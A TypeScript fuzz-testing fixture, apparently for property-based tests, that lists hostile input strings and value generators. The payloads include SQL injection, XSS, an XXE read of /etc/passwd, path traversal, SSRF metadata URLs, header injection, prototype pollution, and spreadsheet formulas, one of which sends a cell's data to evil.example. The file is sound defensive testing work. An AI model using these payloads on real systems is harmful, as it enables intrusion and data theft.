import fc from "fast-check";

/** What a response shows if it lets through what it was given. */
export const SCRIPT_MARK = "<script>fuzz()</script>";
export const HEADER_MARK = "x-fuzz-injected";

const repeated = (text: string, times: number) => text.repeat(times);

/** Text that has broken somebody's parser, store, page, spreadsheet, header or log. */
export const HOSTILE_STRINGS: readonly string[] = [
  "",
  " ",
  "\t\r\n",
  "\0",
  "a\0b",
  "\ud800",
  "x\udfff",
  "\udc00\ud800",
  "\ufeff",
  "\u202emoc.elpmaxe\u202c",
  "\u200b\u200d\u2060",
  "שלום עולם",
  "e\u0301".repeat(50),
  "😀".repeat(64),
  "ẞﬁİıſ",
  "\u0085\u2028\u2029",
  "\u001b[31mred\u0007",
  repeated("x", 255),
  repeated("x", 256),
  repeated("y", 10_000),
  repeated("é", 10_000),
  "' OR '1'='1",
  "'; DROP TABLE cases; --",
  '" UNION SELECT sql FROM sqlite_master --',
  "%' AND 1=1 --",
  'MATCH "unbalanced',
  "NEAR(a b, c) AND * OR (",
  "%",
  "_",
  "*",
  `"><img src=x onerror=alert(1)>${SCRIPT_MARK}`,
  SCRIPT_MARK,
  "]]><x/><![CDATA[",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  "&lt;&#0;&#xD800;&undefined;",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  `a\r\n${HEADER_MARK}: 1`,
  `a%0d%0a${HEADER_MARK}:%201`,
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "..\\..\\windows\\win.ini",
  "CON",
  ".",
  "..",
  "/",
  "a/b",
  "%00",
  "%zz",
  "%ff%fe",
  "{{7*7}}${7*7}#{7*7}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "true",
  "NaN",
  "-0",
  "1e309",
  "9007199254740993",
  "0x10",
  "http://169.254.169.254/latest/meta-data/",
  "https://user:pass@localhost:1/",
  "javascript:alert(1)",
  "file:///etc/passwd",
  "https://[::ffff:127.0.0.1]/",
  "0000-00-00",
  "2026-02-30",
  "9999-12-31",
  "-271821-04-20T00:00:00.000Z",
  "+275760-09-13",
  "00000000-0000-0000-0000-000000000000",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    1,
    0.5,
    1.0000000001,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 53,
    -(2 ** 53),
    1e21,
    1e308,
    -1e308,
    5e-324,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.maxSafeInteger(),
);

/** An object whose own keys are those that plain code reads from a prototype. */
export const prototypeKeys = (): unknown =>
  JSON.parse(
    '{"__proto__":{"admin":true,"roles":["mlro"]},"constructor":{"prototype":{"x":1}},"toString":1,"hasOwnProperty":null,"valueOf":"x","":0}',
  );

/** A value so many levels deep; a marker, because what is that deep cannot be walked. */
export const DEEP_MARK = "\u0001deep:";
const deep = fc
  .tuple(fc.constantFrom("[", "{"), fc.constantFrom(20, 200, 1_500, 4_000, 20_000))
  .map(([kind, levels]) => `${DEEP_MARK}${kind}${levels}`);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 8, arbitrary: hostileString },
  { weight: 4, arbitrary: hostileNumber },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], "") },
  { weight: 1, arbitrary: fc.constant(null).map(prototypeKeys) },
  { weight: 1, arbitrary: fc.array(hostileString, { minLength: 1, maxLength: 200 }) },
  { weight: 1, arbitrary: deep },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Puts in place of its marker what is many levels deep. */
export const writeDeep = (json: string): string =>
  json.replaceAll(/"\\u0001deep:(.)(\d+)"/g, (_, kind: string, levels: string) =>
    kind === "["
      ? "[".repeat(Number(levels)) + "]".repeat(Number(levels))
      : '{"a":'.repeat(Number(levels)) + "1" + "}".repeat(Number(levels)),
  );
